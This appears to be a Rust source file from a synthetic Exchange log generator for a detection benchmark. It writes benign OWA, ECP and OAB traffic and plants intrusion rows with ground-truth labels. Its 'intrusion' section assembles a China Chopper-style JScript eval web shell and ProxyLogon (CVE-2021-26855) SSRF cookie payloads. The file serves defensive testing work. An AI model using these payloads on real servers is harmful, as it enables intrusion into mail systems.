            }
            self.emit_req()?;
            // keep IIS at 35 : 60 of HttpProxy
            while self.iis_bytes * 60 < self.hp_bytes * 35 && self.bytes < self.target {
                let t2 = self.clock.at(self.bytes, self.target).max(t);
                self.filler(t2)?;
            }
        }
        self.flush_plants(i64::MAX)?;
        for r in self.hp.iter_mut() {
            r.close()?;
        }
        self.w1.close()?;
        self.w2.close()?;
        Ok(())
    }
}

// ----------------------------------------------------------------------------------------------
// the share-driven main stream (`--mix dense`, or any share flag)

impl<'a> Main<'a> {
    fn hp_out(&mut self) -> io::Result<()> {
        let want = (770.0 + 85.0 * self.rng.normal()).clamp(612.0, 950.0) as usize;
        hp_line(
            &mut self.line,
            &mut self.tail,
            &mut self.gi,
            &self.req,
            self.w,
            &mut self.rng,
            want,
        );
        let (a, _) = self.hp[self.req.proto].write(self.req.t, &self.line, true)?;
        self.bytes += a;
        self.hp_bytes += a;
        self.hp_lines += 1;
        Ok(())
    }

    /// One IIS line of class `c`: front end (W3SVC1) or back end (W3SVC2, sent by front end `fe`).
    fn iis_out(&mut self, back: bool, fe: usize, c: usize) -> io::Result<()> {
        iis_line(&mut self.line, &self.req, self.w, back, fe, &mut self.rng);
        let roll = if back { &mut self.w2 } else { &mut self.w1 };
        let (a, _) = roll.write(self.req.t, &self.line, true)?;
        self.bytes += a;
        self.iis_bytes += a;
        self.iis_lines += 1;
        self.cls[c] += 1;
        if back {
            self.be_lines += 1;
        }
        Ok(())
    }

    /// Whether one more back-end line keeps W3SVC2 within its share.
    fn be_room(&self, backend: f64) -> bool {
        (self.be_lines as f64) < backend * (self.iis_lines + 2) as f64
    }

    /// A proxied request: its HttpProxy row, the front-end line and, when this server's back end
    /// serves it and W3SVC2 has room, the back-end line (otherwise the mailbox is on EX02).
    fn emit_mix(&mut self, c: usize, backend: f64) -> io::Result<()> {
        let local = self.req.proxied && self.req.target_idx == 0 && !self.req.no_backend;
        let room = self.be_room(backend);
        if local && !room {
            self.req.set_target(1);
        }
        self.hp_out()?;
        self.iis_out(false, 0, c)?;
        if local && room {
            self.iis_out(true, 0, c)?;
        }
        Ok(())
    }

    /// The class of the next event: drawn by share, redrawn while the class is ahead of its share.
    fn pick_class(&mut self, share: &[f64; N_CLASS]) -> usize {
        let n = self.iis_lines as f64;
        for _ in 0..8 {
            let c = self.rng.wpick_f(share);
            if (self.cls[c] as f64) <= share[c] * n + 32.0 {
                return c;
            }
        }
        let behind = |c: usize| share[c] * n - self.cls[c] as f64;
        (0..N_CLASS)
            .max_by(|&a, &b| behind(a).total_cmp(&behind(b)))
            .unwrap()
    }

    fn run_mix(&mut self) -> io::Result<()> {
        let mix = self.mix.clone().expect("a mix");
        while self.bytes < self.target {
            let t = self.clock.at(self.bytes, self.target);
            self.flush_plants(t)?;
            match self.pick_class(&mix.share) {
                C_STATIC => self.owa_static(t)?,
                C_ECP_ADMIN => self.ecp_admin(t, mix.backend)?,
                C_AUTOD_JSON => {
                    self.autod_json(t);
                    self.emit_mix(C_AUTOD_JSON, mix.backend)?;
                }
                C_EAS => {
                    self.request(P_EAS, t);
                    self.emit_mix(C_EAS, mix.backend)?;
                }
                C_PROBE => self.probe(t, mix.backend)?,
                C_NOISE => self.noise(t)?,
                _ => {
                    let si: u64 = self.si.iter().sum();
                    if (si as f64) < self.share * self.hp_lines as f64 {
                        self.serverinfo_request(t);
                        self.emit_mix(C_OTHER, mix.backend)?;
                    } else if self.rng.chance(0.07) {
                        self.owa_logon(t)?;
                    } else {
                        let p = self.rng.wpick(&mix.proto_w);
                        self.request(p, t);
                        self.emit_mix(C_OTHER, mix.backend)?;
                    }
                }
            }
            // W3SVC2 below its share: requests EX02's front end proxies to this back end
            while (self.be_lines as f64) + 16.0 < mix.backend * self.iis_lines as f64
                && self.bytes < self.target
            {
                let t2 = self.clock.at(self.bytes, self.target).max(t);
                let p = self.rng.wpick(&mix.proto_w);
                self.request(p, t2);
                if self.req.proxied {
                    self.req.set_target(0);
                    self.iis_out(true, 1, C_OTHER)?;
                }
            }
        }
        self.flush_plants(i64::MAX)?;
        for r in self.hp.iter_mut() {
            r.close()?;
        }
        self.w1.close()?;
        self.w2.close()?;
        Ok(())
    }

    /// A browser fetching 1-6 OWA static resources (logon page theme or the `prem` client).
    fn owa_static(&mut self, t: i64) -> io::Result<()> {
        let w = self.w;
        let ui = self.user();
        let u = &w.users[ui];
        let prem = self.rng.chance(0.35);
        let ip = if self.rng.chance(0.6) {
            u.ip_int
        } else {
            u.ip_ext
        };
        let n = self.rng.range(1, 6);
        for _ in 0..n {
            let rid = self.rng.guid();
            self.req.reset(t, rid, P_OWA);
            let rng = &mut self.rng;
            let r = &mut self.req;
            r.method = "GET";
            r.is_auth = false;
            r.owa_suffix = true;
            r.ua = u.browser;
            r.cip = ip;
            if prem {
                r.stem.push_str("/owa/prem/15.1.2106/");
                r.stem.push_str(rng.pick::<&str>(OWA_PREM_RES));
                r.referer = "https://mail.contoso.com/owa/";
                r.iis_user.push_str("CONTOSO\\");
                r.iis_user.push_str(&u.sam);
            } else {
                r.stem.push_str("/owa/auth/15.1.2106/themes/resources/");
                r.stem.push_str(rng.pick::<&str>(OWA_AUTH_RES));
                r.referer = "https://mail.contoso.com/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0";
            }
            if rng.chance(0.55) {
                r.status = 304;
                r.dur = rng.lognorm(3.0, 0.6);
            } else {
                r.dur = rng.lognorm(12.0, 0.9);
            }
            self.iis_out(false, 0, C_STATIC)?;
        }
        Ok(())
    }

    /// OWA logon pages (front end only): the form, the redirect of `/owa/`, the form POST.
    fn owa_logon(&mut self, t: i64) -> io::Result<()> {
        let w = self.w;
        let rid = self.rng.guid();
        self.req.reset(t, rid, P_OWA);
        let rng = &mut self.rng;
        let r = &mut self.req;
        let u = &w.users[rng.below(w.users.len() as u64) as usize];
        r.method = "GET";
        r.is_auth = false;
        r.ua = u.browser;
        r.cip = if rng.chance(0.5) { u.ip_ext } else { u.ip_int };
        r.owa_suffix = true;
        match rng.wpick(&[45, 35, 20]) {
            0 => {
                r.stem.push_str("/owa/auth/logon.aspx");
                r.query
                    .push_str("url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0");
                r.dur = rng.lognorm(15.0, 0.6);
            }
            1 => {
                r.stem.push_str("/owa/");
                r.status = 302;
                r.dur = rng.lognorm(3.0, 0.5);
            }
            _ => {
                r.stem.push_str("/owa/auth.owa");
                r.method = "POST";
                r.status = 302;
                r.referer = "https://mail.contoso.com/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0";
                r.dur = rng.lognorm(90.0, 0.7);
            }
        }
        self.iis_out(false, 0, C_OTHER)
    }

    /// An administrator in the Exchange admin center: DDIService lists and objects, slab pages,
    /// the ECP client's static files (front end only).
    fn ecp_admin(&mut self, t: i64, backend: f64) -> io::Result<()> {
        let w = self.w;
        let ai = w.admins[self.rng.below(3) as usize];
        let u = &w.users[ai];
        let v = self.rng.wpick(&[30, 12, 10, 6, 22, 5, 3, 4, 8]);
        let rid = self.rng.guid();
        self.req.reset(t, rid, P_ECP);
        if v == 4 {
            let rng = &mut self.rng;
            let r = &mut self.req;
            r.method = "GET";
            r.is_auth = false;
            r.stem.push_str("/ecp/15.1.2106/");
            r.stem.push_str(rng.pick::<&str>(ECP_STATIC));
            r.referer = "https://mail.contoso.com/ecp/";
            r.iis_user.push_str("CONTOSO\\");
            r.iis_user.push_str(&u.sam);
            r.ua = u.browser;
            r.cip = u.ip_int;
            if rng.chance(0.6) {
                r.status = 304;
                r.dur = rng.lognorm(3.0, 0.6);
            } else {
                r.dur = rng.lognorm(15.0, 0.9);
            }
            return self.iis_out(false, 0, C_ECP_ADMIN);
        }
        self.set_user(ai);
        let rng = &mut self.rng;
        let r = &mut self.req;
        r.ua = u.browser;
        r.auth = "FBA";
        r.referer = "https://mail.contoso.com/ecp/";
        r.cip = u.ip_int;
        match v {
            0 | 1 | 7 => {
                r.stem.push_str(match v {
                    0 => "/ecp/DDI/DDIService.svc/GetList",
                    1 => "/ecp/DDI/DDIService.svc/GetObject",
                    _ => "/ecp/DDI/DDIService.svc/SetObject",
                });
                r.query.push_str("schema=");
                // SetObject on a virtual directory is the ProxyLogon write: not in benign traffic
                let s = *rng.pick(ECP_SCHEMAS);
                r.query.push_str(if v == 7 && s == "VirtualDirectories" {
                    "Mailboxes"
                } else {
                    s
                });
                r.query.push_str("&msExchEcpCanary=");
                rng.canary(&mut r.query);
            }
            2 | 8 => {
                r.stem.push_str(if v == 2 {
                    "/ecp/UsersGroups/Mailboxes.svc/GetList"
                } else {
                    "/ecp/UsersGroups/DistributionGroups.svc/GetList"
                });
                r.query.push_str("msExchEcpCanary=");
                rng.canary(&mut r.query);
            }
            3 => {
                r.stem.push_str(rng.pick::<&str>(ECP_SLABS));
                r.method = "GET";
                r.query.push_str("showhelp=false");
            }
            5 => {
                r.stem.push_str("/ecp/default.aspx");
                r.method = "GET";
            }
            _ => {
                r.stem.push_str("/ecp/");
                r.method = "GET";
            }
        }
        r.dur = rng.lognorm(180.0, 1.0).max(5);
        r.req_bytes = if r.method == "GET" {
            0
        } else {
            rng.lognorm(900.0, 0.8)
        };
        r.resp_bytes = rng.lognorm(6000.0, 1.2);
        r.routing_hint = "WindowsIdentity";
        self.anchor_sid(u.rid);
        self.emit_mix(C_ECP_ADMIN, backend)
    }

    /// autodiscover.json from modern clients (Outlook for iOS / Android, Outlook 2016+):
    /// anonymous, routed by the address in the URL.
    fn autod_json(&mut self, t: i64) {
        let w = self.w;
        let ui = self.user();
        let u = &w.users[ui];
        let rid = self.rng.guid();
        self.req.reset(t, rid, P_AUTOD);
        self.set_user(ui);
        let rng = &mut self.rng;
        let r = &mut self.req;
        r.user.clear();
        r.iis_user.clear();
        r.host = if rng.chance(0.5) {
            "autodiscover.contoso.com"
        } else {
            EXT_HOST
        };
        r.method = "GET";
        r.auth = "";
        r.is_auth = false;
        let proto = ["ActiveSync", "AutodiscoverV1", "Ews", "Rest"][rng.wpick(&[60, 25, 10, 5])];
        if rng.chance(0.6) {
            r.stem.push_str("/autodiscover/autodiscover.json");
            r.query.push_str("Email=");
            r.query.push_str(&u.smtp.replace('@', "%40"));
            r.query.push_str("&Protocol=");
        } else {
            r.stem.push_str("/autodiscover/autodiscover.json/v1.0/");
            r.stem.push_str(&u.smtp);
            r.query.push_str("Protocol=");
        }
        r.query.push_str(proto);
        r.query.push_str("&RedirectCount=1");
        let k = rng.wpick(&[35, 25, 15, 25]);
        r.ua = [
            w.u.outlook_mobile,
            w.u.outlook_ios,
            w.u.outlook_android,
            u.outlook,
        ][k];
        r.cip = if k < 3 || rng.chance(0.3) {
            u.ip_ext
        } else {
            u.ip_int
        };
        r.dur = rng.lognorm(25.0, 0.8).max(3);
        r.resp_bytes = rng.lognorm(330.0, 0.15);
        r.anchor.push_str("Smtp~");
        r.anchor.push_str(&u.smtp);
        r.routing_hint = "Url-Smtp";
    }

    /// Health probes: a load balancer's `healthcheck.htm`, Managed Availability probes through
    /// the front end (HealthMailbox accounts from the server's own address) and straight to the
    /// back end (`https://localhost:444/...`).
    fn probe(&mut self, t: i64, backend: f64) -> io::Result<()> {
        let k = self.rng.wpick(&[35, 40, 25]);
        if k == 0 {
            let rid = self.rng.guid();
            self.req.reset(t, rid, P_OWA);
            let rng = &mut self.rng;
            let r = &mut self.req;
            r.method = "GET";
            r.is_auth = false;
            r.stem.push_str(rng.pick::<&str>(&[
                "/owa/healthcheck.htm",
                "/ews/healthcheck.htm",
                "/mapi/healthcheck.htm",
                "/Microsoft-Server-ActiveSync/healthcheck.htm",
                "/ecp/healthcheck.htm",
                "/oab/healthcheck.htm",
                "/rpc/healthcheck.htm",
                "/autodiscover/healthcheck.htm",
            ]));
            r.cip = LB_IP;
            r.dur = rng.range(0, 4);
            return self.iis_out(false, 0, C_PROBE);
        }
        let p = *self
            .rng
            .pick(&[P_OWA, P_EWS, P_EAS, P_MAPI, P_ECP, P_AUTOD, P_OAB, P_RPC]);
        loop {
            self.request(p, t);
            if !self.req.stem.starts_with("/ecp/Current/") {
                break;
            }
        }
        let r = &mut self.req;
        if !r.is_auth || !r.proxied {
            r.is_auth = true;
            r.auth = "Negotiate";
            r.proxied = true;
            r.routing_type = "IntraForest";
            r.status = 200;
            r.be_status = 200;
            r.sub = 0;
            r.win32 = 0;
            r.dur = r.dur.max(5);
        }
        self.health_mailbox(p);
        if k == 1 {
            return self.emit_mix(C_PROBE, backend);
        }
        let r = &mut self.req;
        r.set_target(0);
        r.be_cip = *self.rng.pick(&["127.0.0.1", "::1", "10.20.0.15"]);
        self.iis_out(true, 0, C_PROBE)
    }

    /// Internet background noise on the front end (no Exchange virtual directory).
    fn noise(&mut self, t: i64) -> io::Result<()> {
        let w = self.w;
        let rid = self.rng.guid();
        self.req.reset(t, rid, P_OWA);
        let rng = &mut self.rng;
        let r = &mut self.req;
        r.method = "GET";
        r.is_auth = false;
        r.internet_noise(rng, w);
        self.iis_out(false, 0, C_NOISE)
    }
}

// ----------------------------------------------------------------------------------------------
// ECP server log

struct EcpCmd {
    w: u32,
    admin: bool,
    cmd: &'static str,
    url: &'static str,
}

const ECP_CMDS: &[EcpCmd] = &[
    EcpCmd {
        w: 180,
        admin: false,
        cmd: "Get-InboxRule",
        url: "/ecp/RulesEditor/InboxRules.svc/GetList",
    },
    EcpCmd {
        w: 100,
        admin: false,
        cmd: "Get-MailboxRegionalConfiguration",
        url: "/ecp/DDI/DDIService.svc/GetObject?schema=RegionalSettings",
    },
    EcpCmd {
        w: 80,
        admin: false,
        cmd: "Get-MailboxAutoReplyConfiguration",
        url: "/ecp/DDI/DDIService.svc/GetObject?schema=AutomaticReplies",
    },
    EcpCmd {
        w: 30,
        admin: false,
        cmd: "@autoreply",
        url: "/ecp/DDI/DDIService.svc/SetObject?schema=AutomaticReplies",
    },
    EcpCmd {
        w: 60,
        admin: false,
        cmd: "Get-MailboxCalendarConfiguration",
        url: "/ecp/DDI/DDIService.svc/GetObject?schema=CalendarAppearance",
    },
    EcpCmd {
        w: 50,
        admin: false,
        cmd: "Get-MobileDevice",
        url: "/ecp/PersonalSettings/MobileDevices.svc/GetList",
    },
    EcpCmd {
        w: 40,
        admin: false,
        cmd: "Get-CASMailbox",
        url: "/ecp/DDI/DDIService.svc/GetObject?schema=MailboxAccount",
    },
    EcpCmd {
        w: 20,
        admin: false,
        cmd: "@newrule",
        url: "/ecp/RulesEditor/InboxRules.svc/NewObject",
    },
    EcpCmd {
        w: 20,
        admin: false,
        cmd: "@regional",
        url: "/ecp/DDI/DDIService.svc/SetObject?schema=RegionalSettings",
    },
    EcpCmd {
        w: 120,
        admin: true,
        cmd: "Get-Mailbox",
        url: "/ecp/UsersGroups/Mailboxes.svc/GetList",
    },
    EcpCmd {
        w: 50,
        admin: true,
        cmd: "Get-Recipient",
        url: "/ecp/DDI/DDIService.svc/GetList?schema=RecipientPickerService",
    },
    EcpCmd {
        w: 40,
        admin: true,
        cmd: "Get-DistributionGroup",
        url: "/ecp/DDI/DDIService.svc/GetList?schema=DistributionGroup",
    },
    EcpCmd {
        w: 30,
        admin: true,
        cmd: "Get-ExchangeServer",
        url: "/ecp/DDI/DDIService.svc/GetList?schema=ServersService",
    },
    EcpCmd {
        w: 30,
        admin: true,
        cmd: "Get-MailboxDatabase",
        url: "/ecp/DDI/DDIService.svc/GetList?schema=MailboxDatabases",
    },
    EcpCmd {
        w: 30,
        admin: true,
        cmd: "Get-OwaVirtualDirectory",
        url: "/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectories",
    },
    EcpCmd {
        w: 20,
        admin: true,
        cmd: "Get-OabVirtualDirectory",
        url: "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory",
    },
    EcpCmd {
        w: 20,
        admin: true,
        cmd: "Get-MailboxStatistics",
        url: "/ecp/UsersGroups/Mailboxes.svc/GetObject",
    },
    EcpCmd {
        w: 1,
        admin: true,
        cmd: "@owavdir",
        url: "/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory",
    },
    EcpCmd {
        w: 1,
        admin: true,
        cmd: "@ecpvdir",
        url: "/ecp/DDI/DDIService.svc/SetObject?schema=ECPVirtualDirectory",
    },
    EcpCmd {
        w: 5,
        admin: true,
        cmd: "@setmailbox",
        url: "/ecp/UsersGroups/Mailboxes.svc/SetObject",
    },
];

/// `S:KEY=value` with the first quoting layer: wrapped in `'` (inner `'` doubled) when needed.
fn ecp_pair(b: &mut Vec<u8>, key: &str, val: &str) {
    if val.contains('\'') || val.contains(';') {
        b.push(b'\'');
        ps(b, key);
        b.push(b'=');
        for &c in val.as_bytes() {
            if c == b'\'' {
                b.push(b'\'');
            }
            b.push(c);
        }
        b.push(b'\'');
    } else {
        ps(b, key);
        b.push(b'=');
        ps(b, val);
    }
}

/// A complete ECP server log row; `cmd` and `url` are raw, `time_ms` the S:TIME.
#[allow(clippy::too_many_arguments)]
fn ecp_row(
    b: &mut Vec<u8>,
    ed: &mut Vec<u8>,
    rng: &mut Rng,
    t: i64,
    cmd: &str,
    url: &str,
    ex: &str,
    time_ms: u64,
) {
    ed.clear();
    ps(ed, "S:TIME=");
    pu(ed, time_ms);
    ps(ed, ";S:SID=");
    let g = rng.guid();
    pguid(ed, &g);
    ed.push(b';');
    ecp_pair(ed, "S:CMD", cmd);
    ps(ed, ";S:REQID=;S:URL=");
    ps(ed, url);
    ps(ed, ";S:REFERRER=;S:EX=");
    ps(ed, ex);
    ps(ed, ";S:ACTID=");
    let g = rng.guid();
    pguid(ed, &g);
    ps(ed, ";S:RS=0;S:BLD=");
    ps(ed, BLD_DOT);
    ps(ed, ";S:TNAME=<null>;S:TID=;S:USID=");
    let g = rng.guid();
    pguid(ed, &g);
    ps(ed, ";S:EDOID=;S:ACID=");
    b.clear();
    p_iso(b, t);
    ps(b, ",EX01,ECP.Request,");
    let s = std::str::from_utf8(ed).unwrap();
    pcsv(b, s);
}

fn ecp_stream(
    root: &Path,
    w: &World,
    seed: u64,
    target: u64,
    start: i64,
    hours: usize,
    plants: Vec<Plant>,
) -> io::Result<(Vec<Gt>, u64, u64)> {
    let mut rng = Rng::new(seed, 7);
    let mut clock = Clock::new(start, hours, true, &mut Rng::new(seed, 8));
    let mut roll = Roller::new(
        root,
        format!("{EX}/Logging/ECP/Server"),
        Kind::Ecp,
        10 << 20,
    )?;
    let weights: Vec<u32> = ECP_CMDS.iter().map(|c| c.w).collect();
    let (mut bytes, mut lines) = (0u64, 0u64);
    let mut gts = Vec::new();
    let (mut b, mut ed, mut cmd, mut url) = (Vec::new(), Vec::new(), String::new(), String::new());
    let mut pi = 0;
    while bytes < target {
        let t = clock.at(bytes, target);
        while pi < plants.len() && plants[pi].t <= t {
            write_plant(&mut roll, &plants[pi], &mut gts)?;
            pi += 1;
        }
        let probe = rng.chance(0.15);
        let c = &ECP_CMDS[if probe { 0 } else { rng.wpick(&weights) }];
        let ui = if c.admin {
            w.admins[rng.below(3) as usize]
        } else {
            rng.below((w.users.len() - w.admins.len()) as u64) as usize
        };
        let u = &w.users[ui];
        cmd.clear();
        url.clear();
        let mut ex = "";
        match c.cmd {
            "@autoreply" => {
                cmd.push_str("Set-MailboxAutoReplyConfiguration.Identity='");
                cmd.push_str(&u.smtp);
                cmd.push_str("'.AutoReplyState='Scheduled'.StartTime='");
                let d = dt(t + DAY * rng.range(1, 10) as i64);
                cmd.push_str(&format!("{:02}/{:02}/{} 08:00:00", d.mo, d.d, d.y));
                cmd.push_str("'.EndTime='");
                let d = dt(t + DAY * rng.range(11, 20) as i64);
                cmd.push_str(&format!("{:02}/{:02}/{} 17:00:00", d.mo, d.d, d.y));
                cmd.push_str("'.InternalMessage='<p>I am out of the office, with limited access to e-mail.</p>'");
            }
            "@newrule" => {
                cmd.push_str("New-InboxRule.Name='");
                cmd.push_str(rng.pick::<&str>(&[
                    "Newsletters, promos",
                    "Move \"Jira\" notifications",
                    "From my manager",
                    "Invoices",
                ]));
                cmd.push_str("'.From='");
                cmd.push_str(&w.users[rng.below(600) as usize].smtp);
                cmd.push_str("'.MoveToFolder='");
                cmd.push_str(&u.smtp);
                cmd.push_str(":\\Inbox\\Filed'.StopProcessingRules='True'");
            }
            "@regional" => {
                cmd.push_str("Set-MailboxRegionalConfiguration.Identity='");
                cmd.push_str(&u.smtp);
                cmd.push_str("'.DateFormat='d MMM, yyyy'.TimeZone='W. Europe Standard Time'");
            }
            "@owavdir" => {
                cmd.push_str("Set-OwaVirtualDirectory.Identity='EX0");
                cmd.push_str(if rng.chance(0.5) { "1" } else { "2" });
                cmd.push_str("\\owa (Default Web Site)'.ExternalUrl='https://mail.contoso.com/owa'.InternalUrl='https://mail.contoso.com/owa'");
            }
            "@ecpvdir" => {
                cmd.push_str("Set-EcpVirtualDirectory.Identity='EX01\\ecp (Default Web Site)'.ExternalUrl='https://mail.contoso.com/ecp'");
            }
            "@setmailbox" => {
                cmd.push_str("Set-Mailbox.Identity='");
                cmd.push_str(&w.users[rng.below(600) as usize].smtp);
                cmd.push_str("'.ProhibitSendQuota='49 GB (52,613,349,376 bytes)'");
            }
            other => {
                cmd.push_str(other);
                if rng.chance(0.02) {
                    ex = "Microsoft.Exchange.Configuration.Tasks.ManagementObjectNotFoundException";
                }
            }
        }
        url.push_str(c.url);
        url.push_str(if c.url.contains('?') {
            "&msExchEcpCanary="
        } else {
            "?msExchEcpCanary="
        });
        rng.canary(&mut url);
        let time_ms = rng
            .lognorm(if c.cmd.starts_with('@') { 350.0 } else { 25.0 }, 1.0)
            .max(1);
        ecp_row(&mut b, &mut ed, &mut rng, t, &cmd, &url, ex, time_ms);
        let (a, _) = roll.write(t, &b, true)?;
        bytes += a;
        lines += 1;
    }
    while pi < plants.len() {
        write_plant(&mut roll, &plants[pi], &mut gts)?;
        pi += 1;
    }
    roll.close()?;
    Ok((gts, roll.total_bytes, lines))
}

// ----------------------------------------------------------------------------------------------
// OAB generator log (layout invented: the real one is unpublished)

fn oab_prefix(b: &mut Vec<u8>, w: &World, t: i64, tid: u64, level: &str, comp: &str) {
    b.clear();
    p_iso(b, t);
    ps(b, ",7344,");
    pu(b, tid);
    pc(b);
    ps(b, level);
    pc(b);
    ps(b, comp);
    ps(b, ",\\Default Offline Address Book,");
    pguid(b, &w.org_mbx);
    pc(b);
}

fn oab_stream(
    root: &Path,
    w: &World,
    seed: u64,
    target: u64,
    start: i64,
    hours: usize,
    plants: Vec<Plant>,
) -> io::Result<(Vec<Gt>, u64, u64)> {
    let mut rng = Rng::new(seed, 9);
    let mut clock = Clock::new(start, hours, false, &mut Rng::new(seed, 10));
    let mut roll = Roller::new(
        root,
        format!("{EX}/Logging/OABGeneratorLog"),
        Kind::Oab,
        10 << 20,
    )?;
    let (mut bytes, mut lines) = (0u64, 0u64);
    let mut gts = Vec::new();
    let mut b = Vec::new();
    let mut msg = String::new();
    let mut pi = 0;
    // cycle state
    let mut step = 0u32;
    let mut pages = 0u32;
    let mut page = 0u32;
    let mut tid = 12u64;
    let mut temp = [0u8; 16];
    let mut seq = 100u64;
    let mut entries = 0u64;
    let mut t = start;
    while bytes < target {
        // a generation cycle starts on the byte clock; its lines follow within seconds
        t = if step == 0 {
            clock.at(bytes, target).max(t)
        } else {
            t + rng.range(40, 1500) as i64
        };
        while pi < plants.len() && plants[pi].t <= t {
            write_plant(&mut roll, &plants[pi], &mut gts)?;
            pi += 1;
        }
        msg.clear();
        let (level, comp);
        match step {
            0 => {
                tid = rng.range(5, 60);
                temp = rng.guid();
                pages = rng.range(8, 40) as u32;
                page = 0;
                seq += 1;
                entries = 0;
                level = "Information";
                comp = "OABGeneratorAssistant";
                msg.push_str("Beginning generation of offline address book '\\Default Offline Address Book' (Guid ");
                sguid(&mut msg, &w.oab);
                msg.push_str("). Trigger: ");
                msg.push_str(if rng.chance(0.9) {
                    "Scheduled"
                } else {
                    "OnDemand"
                });
                msg.push('.');
                step = 1;
            }
            1 => {
                level = "Verbose";
                comp = "ADAddressListReader";
                let n = rng.range(40, 100);
                entries += n;
                page += 1;
                msg.push_str(&format!(
                    "Reading address list '\\Global Address List' page {page} of {pages}: {n} entries, {} ms, cookie length {}.",
                    rng.range(20, 400),
                    rng.range(80, 200)
                ));
                if page >= pages {
                    step = 2;
                }
            }
            2 => {
                level = "Information";
                comp = "OABFileWriter";
                msg.push_str(&format!(
                    "Wrote {entries} records to temporary file '{EX_WIN}ClientAccess\\OAB\\Temp\\"
                ));
                sguid(&mut msg, &temp);
                msg.push_str("\\data.oab'.");
                step = 3;
            }
            3 => {
                level = "Information";
                comp = "OABCompressor";
                let a = entries * rng.range(900, 1300);
                msg.push_str("Compressed 'data.oab' into '");
                sguid(&mut msg, &w.oab);
                msg.push_str(&format!(
                    "-data-{seq}.lzx' ({a} bytes -> {} bytes).",
                    a / rng.range(3, 6)
                ));
                step = 4;
            }
            4 => {
                level = "Information";
                comp = "OABFileUploader";
                msg.push_str("Uploaded '");
                sguid(&mut msg, &w.oab);
                msg.push_str(&format!("-data-{seq}.lzx' to the organization mailbox."));
                step = if rng.chance(0.04) { 5 } else { 6 };
            }
            5 => {
                level = "Warning";
                comp = "OABFileDownloader";
                msg.push_str(&format!(
                    "Download failed and temporary file '{EX_WIN}ClientAccess\\OAB\\Temp\\"
                ));
                sguid(&mut msg, &temp);
                msg.push_str("\\oab.lzx' needs to be removed.");
                step = 6;
            }
            _ => {
                level = "Information";
                comp = "OABGeneratorAssistant";
                msg.push_str(&format!(
                    "Generation of offline address book '\\Default Offline Address Book' completed in 00:00:{:02}.{:03}. Files: 4, full size {} bytes.",
                    rng.range(2, 59),
                    rng.below(1000),
                    entries * rng.range(900, 1300)
                ));
                step = 0;
            }
        }
        oab_prefix(&mut b, w, t, tid, level, comp);
        pcsv(&mut b, &msg);
        let (a, _) = roll.write(t, &b, true)?;
        bytes += a;
        lines += 1;
    }
    while pi < plants.len() {
        write_plant(&mut roll, &plants[pi], &mut gts)?;
        pi += 1;
    }
    roll.close()?;
    Ok((gts, roll.total_bytes, lines))
}

// ----------------------------------------------------------------------------------------------
// the intrusion

fn chopper(param: &str) -> String {
    // assembled from fragments on purpose (see the module docs)
    let parts = [
        "<scr",
        "ipt language=\"JScr",
        "ipt\" runat=\"server\">function Page_Load(){ev",
        "al(Request[\"",
    ];
    let tail = ["\"],\"unsa", "fe\");}</scr", "ipt>"];
    let mut s = parts.concat();
    s.push_str(param);
    s.push_str(&tail.concat());
    s
}

fn build_plants(w: &World, seed: u64) -> Vec<Plant> {
    let mut rng = Rng::new(seed, 99);
    let mut out = Vec::new();
    let (mut b, mut tail, mut gi) = (Vec::new(), Vec::new(), Vec::new());
    let mut r = Req::default();
    let a_ip = [203, 0, 113, 57];
    let a2_ip = [203, 0, 113, 88];
    let b_ip = [203, 0, 113, 77];
    let mut canary = String::new();
    rng.canary(&mut canary);

    // SSRF row: HttpProxy + front-end IIS (+ back end for the reset)
    #[allow(clippy::too_many_arguments)]
    fn ssrf(
        out: &mut Vec<Plant>,
        w: &World,
        rng: &mut Rng,
        r: &mut Req,
        bufs: (&mut Vec<u8>, &mut Vec<u8>, &mut Vec<u8>),
        t: i64,
        proto: usize,
        stem: &str,
        anchor: &str,
        cookie: &str,
        ua: usize,
        ip: [u8; 4],
        status: u16,
        check: &'static str,
    ) {
        let (b, tail, gi) = bufs;
        let rid = rng.guid();
        r.reset(t, rid, proto);
        r.stem.push_str(stem);
        r.method = if stem.starts_with("/owa/auth/x.js") {
            "GET"
        } else {
            "POST"
        };
        r.auth = "";
        r.is_auth = false;
        r.anchor.push_str(anchor);
        r.cookie.push_str(cookie);
        r.ua = ua;
        r.cip = ip;
        r.status = status;
        r.be_status = status;
        r.routing_type = "";
        r.routing_hint = "X-BEResource-Cookie";
        r.owa_suffix = stem.starts_with("/owa/");
        r.dur = rng.lognorm(70.0, 0.6).max(8);
        r.req_bytes = if r.method == "GET" {
            0
        } else {
            rng.lognorm(480.0, 0.3)
        };
        r.resp_bytes = rng.lognorm(1100.0, 0.5);
        let want = (780.0 + 60.0 * rng.normal()) as usize;
        hp_line(b, tail, gi, r, w, rng, want);
        out.push(Plant {
            t,
            dest: Dest::Hp(proto),
            text: b.clone(),
            check,
        });
        iis_line(b, r, w, false, 0, rng);
        out.push(Plant {
            t,
            dest: Dest::W1,
            text: b.clone(),
            check: "iis-proxylogon-shape",
        });
    }
    let junk = "]@ex01.contoso.local:444";

    // actor A, 2021-02-11 (night in Europe)
    let t0 = ts(2021, 2, 11, 4, 27, 19, 312);
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        t0,
        P_OWA,
        "/owa/auth/Current/themes/resources/logon.css",
        &format!("ServerInfo~ab{junk}/autodiscover/autodiscover.xml?#"),
        "",
        w.u.yandex,
        a_ip,
        200,
        "cve-2021-26855",
    );
    let t1 = ts(2021, 2, 11, 4, 27, 52, 40);
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        t1,
        P_ECP,
        "/ecp/y.js",
        &format!("ServerInfo~a{junk}/autodiscover/autodiscover.xml?#"),
        "",
        w.u.ews_poc,
        a_ip,
        200,
        "cve-2021-26855",
    );
    let t2 = ts(2021, 2, 11, 4, 28, 40, 871);
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        t2,
        P_ECP,
        "/ecp/y.js",
        &format!("ServerInfo~ac{junk}/mapi/emsmdb/?#"),
        "",
        w.u.python,
        a_ip,
        200,
        "cve-2021-26855",
    );
    let t3 = ts(2021, 2, 11, 4, 29, 44, 908);
